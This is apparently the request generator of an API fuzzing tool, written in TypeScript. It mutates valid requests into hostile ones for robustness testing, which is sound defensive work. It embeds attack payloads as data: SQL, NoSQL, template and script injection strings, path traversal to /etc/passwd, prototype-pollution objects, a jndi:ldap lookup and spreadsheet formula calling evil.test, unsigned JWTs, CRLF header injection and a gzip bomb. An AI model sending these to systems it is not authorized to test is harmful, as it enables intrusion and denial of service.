import { gzipSync } from 'node:zlib';
import type { Operation } from './description.js';
import type { Random } from './input/random.js';
import type { RawRequest } from './input/raw-request.js';

/** An operation with a valid request, which is then made invalid. */
export interface Target {
  operation: Operation;
  /** The valid path. */
  path: string;
  /** The valid body, if it is JSON. */
  body?: object | undefined;
}

/** Keys that every object inherits. */
const PROTOTYPES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];
/** Only JSON can have them as own keys. */
const withPrototypeKey = (random: Random): unknown =>
  JSON.parse(
    random.pick([
      '{"__proto__":{"isAdmin":true,"role":"admin"}}',
      '{"constructor":{"prototype":{"isAdmin":true}}}',
      '{"__proto__":null}',
      '{"toString":1,"valueOf":2,"hasOwnProperty":3}',
      '{"length":-1,"0":"a"}',
    ]),
  );
const OPERATORS = ['$ne', '$gt', '$where', '$regex', '$in', '$or', '$expr', '$function', '$set', '$unset'];
const TEXTS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u202Eevil\u202C',
  '\uD800',
  'x\uDC00y',
  '\uFEFF',
  '👩‍👩‍👧‍👦'.repeat(50),
  'Z̸̢̛͖̥̝'.repeat(100),
  "' OR 1=1 --",
  '"; DROP TABLE events; --',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '../../../../etc/passwd',
  '(a+)+$',
  'a\r\nX-Injected: yes',
  'NaN',
  'Infinity',
  '1e400',
  '0x10',
  '-0',
  '9'.repeat(400),
  '9999-12-31T23:59:60Z',
  '2026-02-30',
  '=HYPERLINK("http://evil.test")',
  '%24%7Bjndi:ldap://evil.test%7D',
  'İıſK',
];
const NUMBERS = [0, -0, -1, 1e308, -1e308, 5e-324, 2 ** 53, -(2 ** 63), 0.1 + 0.2, 4294967296];

const nested = (depth: number, isList: boolean): unknown => {
  let value: unknown = 1;
  for (let level = 0; level < depth; level++) value = isList ? [value] : { a: value };
  return value;
};

/** A value that no form expects. */
const hostileValue = (random: Random): unknown => {
  switch (random.below(12)) {
    case 0:
      return null;
    case 1:
      return random.chance(0.5);
    case 2:
      return random.pick(NUMBERS);
    case 3:
      return 'x'.repeat(random.pick([201, 5_000, 100_000]));
    case 4:
      return nested(random.pick([3, 60, 900]), random.chance(0.5));
    case 5:
      return { [random.pick(OPERATORS)]: random.pick<unknown>([null, '', 1, 'sleep(1000)', ['a']]) };
    case 6:
      return withPrototypeKey(random);
    case 7:
      return [];
    case 8:
      return Array.from({ length: random.pick([1, 300, 2_000]) }, () => random.pick(TEXTS));
    case 9:
      return {};
    default:
      return random.pick(TEXTS);
  }
};

/** The value with one part replaced. */
const altered = (value: unknown, random: Random): unknown => {
  if (typeof value !== 'object' || value === null || random.chance(0.15)) return hostileValue(random);
  if (Array.isArray(value)) {
    const at = random.below(value.length + 1);
    return [...value.slice(0, at), altered(value[at], random), ...value.slice(at + 1)];
  }
  const names = Object.keys(value);
  const name =
    random.chance(0.2) || names.length === 0
      ? random.pick([...PROTOTYPES, ...OPERATORS])
      : random.pick(names);
  if (random.chance(0.1)) {
    const { [name as never]: _, ...remaining } = value;
    return remaining;
  }
  // Not by assignment, which would set the prototype.
  return Object.defineProperty({ ...value }, name, {
    value: altered(Object.hasOwn(value, name) ? value[name as never] : undefined, random),
    enumerable: true,
    configurable: true,
  });
};

const PATHS = [
  '..%2f..%2f..%2fetc%2fpasswd',
  '..%5c..%5cwindows',
  '%2e%2e%2f',
  '%252e%252e%252f',
  '%00',
  'a%00b',
  '%',
  '%zz',
  '%ff%fe',
  '%c0%ae%c0%ae',
  '%ed%a0%80',
  '__proto__',
  'constructor',
  'toString',
  '%7B%22%24ne%22%3A1%7D',
  '-1',
  '1e400',
  '%F0%9F%92%BB',
  '%E2%80%AEevil',
  '..;',
  '.',
  '*',
  'null',
  'a'.repeat(300),
  'a'.repeat(6_000),
];
const wrongPath = (path: string, random: Random): string => {
  const parts = path.split('/');
  switch (random.below(5)) {
    case 0:
      return `${path}/${random.pick(PATHS)}`;
    case 1:
      return `/${random.pick(PATHS)}${path}`;
    case 2:
      return path.replaceAll('/', '//');
    default:
      parts[1 + random.below(parts.length - 1)] = random.pick(PATHS);
      return parts.join('/');
  }
};

const CONSOLE_TEXTS = [
  '{',
  'null',
  '[]',
  '7',
  '{"$where":"sleep(1000)"}',
  '{"q":{"$ne":null}}',
  '{"id":[{"$gt":""}]}',
  '{"__proto__":{"a":1}}',
  '{"constructor":"x"}',
  `{"q":"${'x'.repeat(5_000)}"}`,
  '{"id":"\\u0000"}',
  '[0,1000000000]',
  '[5,2]',
  '[-10,-1]',
  '[1e308,1e309]',
  '[0.5,24.5]',
  '["__proto__","ASC"]',
  '["createdAt","SIDEWAYS"]',
  '[{"$ne":1},"ASC"]',
];
const wrongQuery = ({ queries }: Operation, random: Random): string => {
  const names = queries.map(({ name }) => name);
  const pairs = Array.from({ length: 1 + random.below(4) }, () => {
    const name = random.pick([...names, ...names, 'unknown', ...PROTOTYPES]);
    const value = ['filter', 'range', 'sort'].includes(name)
      ? random.pick(CONSOLE_TEXTS)
      : random.pick([...TEXTS, String(random.pick(NUMBERS)), 'x'.repeat(3_000)]);
    const text = encodeURIComponent(Buffer.from(value).toString());
    switch (random.below(6)) {
      case 0:
        return `${name}=a&${name}=${text}`;
      case 1:
        return `${name}[${random.pick([...OPERATORS, ...PROTOTYPES])}]=${text}`;
      case 2:
        return `${name}[]=${text}`;
      case 3:
        return `${name}=${random.pick(PATHS)}`;
      default:
        return `${name}=${text}`;
    }
  });
  return `?${pairs.join('&')}`;
};

const TOKENS = [
  'Bearer',
  'Bearer ',
  'Bearer x.y.z',
  'Basic YWRtaW46YWRtaW4=',
  `Bearer ${'x'.repeat(7_000)}`,
  `Bearer ${Buffer.from('{"alg":"none"}').toString('base64url')}.${Buffer.from('{"sub":"x","sid":"y"}').toString('base64url')}.`,
  'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4Iiwic2lkIjoieSJ9.c2lnbmF0dXJl',
];
const HEADERS: readonly (readonly [string, readonly string[]])[] = [
  [
    'If-Match',
    ['"abc"', '*', '"-1"', 'W/"1"', '1', '"99999999999999999999"', '"1", "2"', `"${'9'.repeat(4_000)}"`],
  ],
  ['If-None-Match', ['*', '"', 'W/""', `"${'x'.repeat(4_000)}"`]],
  ['Idempotency-Key', ['', ' ', 'k', '__proto__', 'x'.repeat(9_000), '\u00e9\u00ff', '{"$ne":1}']],
  ['Authorization', TOKENS],
  ['Range', ['bytes=0-', 'bytes=-1', 'bytes=9-1', 'bytes=0-0,1-1,2-2', 'pages=1']],
  ['Accept-Encoding', ['*;q=0', 'gzip;q=nan', 'br, gzip, deflate, zstd', 'identity;q=0']],
  ['Accept', ['*/*;q=x', 'text/html', 'a/b'.repeat(500)]],
  ['Cookie', ['parkho-device=x.y.z', 'a'.repeat(5_000), '__proto__=1; constructor=2']],
  ['X-Forwarded-For', ['', 'nowhere', '::1', '1.2.3.4, 5.6.7.8', '1'.repeat(3_000)]],
  ['X-Forwarded-Host', ['evil.test']],
  ['Origin', ['null', 'https://evil.test']],
  ['Expect', ['100-continue', 'the-unexpected']],
  ['X-HTTP-Method-Override', ['DELETE']],
];

const CONTENT_TYPES = [
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/json;;;',
  'application/ld+json',
  'text/plain',
  'text/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  '*/*',
  'x'.repeat(2_000),
];
const BOUNDARY = 'hostile';
const part = (disposition: string, content: string, end = '\r\n'): string =>
  `--${BOUNDARY}\r\nContent-Disposition: ${disposition}\r\n\r\n${content}${end}`;
const MULTIPARTS: readonly (() => string)[] = [
  () => '',
  () => `--${BOUNDARY}`,
  () => `--${BOUNDARY}--`,
  () => part('form-data; name="name"', 'x'),
  () => part('form-data; name="name"; filename="../../etc/x.png"', '\u0089PNG\r\n', ''),
  () => `${part('form-data; name="__proto__"', '{}')}--${BOUNDARY}--\r\n`,
  () => `${part('form-data; name="front"; filename="a.png"', 'no picture')}--${BOUNDARY}--\r\n`,
  () => `${part('attachment', 'x')}--${BOUNDARY}--\r\n`,
  () => `${part(`form-data; name="${'n'.repeat(5_000)}"`, 'x')}--${BOUNDARY}--\r\n`,
  () => `${part('form-data; name="inspectionData"', '{"a":')}--${BOUNDARY}--\r\n`,
  () => `${part('form-data; name="f"; filename="x"', 'y').repeat(400)}--${BOUNDARY}--\r\n`,
  () => `--${BOUNDARY}\r\n${'X-Long: y\r\n'.repeat(2_000)}\r\nx\r\n--${BOUNDARY}--\r\n`,
];
/** A hundred megabytes of zeros when decompressed. */
const ZIP_BOMB = gzipSync(Buffer.alloc(100 * 1024 * 1024));

interface Content {
  type: string;
  body: Buffer;
  headers?: readonly (readonly [string, string])[];
}
const json = (value: unknown): Content => ({
  type: 'application/json',
  body: Buffer.from(JSON.stringify(value) ?? 'undefined'),
});
const INVALID_JSON = [
  '{',
  '{"a":1}}',
  "{'a':1}",
  '[1,]',
  'NaN',
  'undefined',
  '{"a":1,"a":2}',
  '"',
  '\u0000',
  '{"a":"\\ud800"}',
];

/** An invalid body. */
const wrongBody = ({ body = {} }: Target, random: Random): Content => {
  const valid = json(body);
  switch (random.below(20)) {
    case 0:
      return { ...valid, type: random.pick(CONTENT_TYPES) };
    case 1:
      return { ...valid, body: Buffer.from(random.pick(INVALID_JSON)) };
    case 2:
      return { ...valid, body: Buffer.from(`{"name":"caf\u00e9 \u00ff"}`, 'latin1') };
    case 3:
      return { ...valid, body: Buffer.from(JSON.stringify(body), 'utf16le') };
    case 4:
      return { ...valid, body: ZIP_BOMB, headers: [['Content-Encoding', 'gzip']] };
    case 5:
      return {
        ...valid,
        headers: [['Content-Encoding', random.pick(['br', 'identity', 'x', 'gzip, gzip'])]],
      };
    case 6:
    case 7:
    case 8:
      return {
        type: `multipart/form-data; boundary=${BOUNDARY}`,
        body: Buffer.from(random.pick(MULTIPARTS)(), 'latin1'),
      };
    case 9:
      // Up to the usual limit of a body; longer ones are rare, because they take most of the time.
      return json({ ...body, name: 'x'.repeat(random.chance(0.1) ? 10_000_000 : 1_100_000) });
    case 10:
      return json(hostileValue(random));
    default: {
      let value: unknown = body;
      for (let count = 1 + random.below(3); count > 0; count--) value = altered(value, random);
      return json(value);
    }
  }
};

/** A hostile request for a target; `headers` are those of a valid one. */
export const generateRequest = (
  target: Target,
  headers: readonly (readonly [string, string])[],
  random: Random,
): RawRequest => {
  const { operation, path } = target;
  const isWrite = operation.method !== 'GET';
  const roll = random.below(10);
  const address = roll < 2 ? wrongPath(path, random) : path;
  const query = roll < 2 || (roll < 6 && !isWrite) || random.chance(0.1) ? wrongQuery(operation, random) : '';
  const hostileHeaders = random.chance(0.3) || roll === 9 ? [random.pick(HEADERS), random.pick(HEADERS)] : [];
  const extra = hostileHeaders.map(([name, values]) => [name, random.pick(values)] as const);
  const validHeaders = headers.filter(
    ([name]) => !extra.some(([extraName]) => extraName.toLowerCase() === name.toLowerCase()),
  );
  const method = random.chance(0.02)
    ? random.pick(['HEAD', 'OPTIONS', 'TRACE', 'PROPFIND', 'PUT'])
    : operation.method;
  const content = isWrite || random.chance(0.05) ? wrongBody(target, random) : undefined;
  if (!content)
    return {
      method,
      path: `${address}${query}`,
      headers: [...validHeaders, ...extra],
      body: Buffer.alloc(0),
    };
  const isChunked = random.chance(0.1);
  const length = isChunked
    ? ['Transfer-Encoding', 'chunked']
    : ['Content-Length', String(content.body.length)];
  return {
    method,
    path: `${address}${query}`,
    headers: [
      ...validHeaders,
      ...extra,
      ['Content-Type', content.type],
      ...(content.headers ?? []),
      length as [string, string],
    ],
    body: isChunked ? chunked(content.body, random.chance(0.1)) : content.body,
  };
};

const chunked = (body: Buffer, isBroken: boolean): Buffer =>
  Buffer.concat([
    Buffer.from(`${isBroken ? 'zz' : body.length.toString(16)}\r\n`),
    body,
    Buffer.from(body.length > 0 ? '\r\n0\r\n\r\n' : '\r\n'),
  ]);
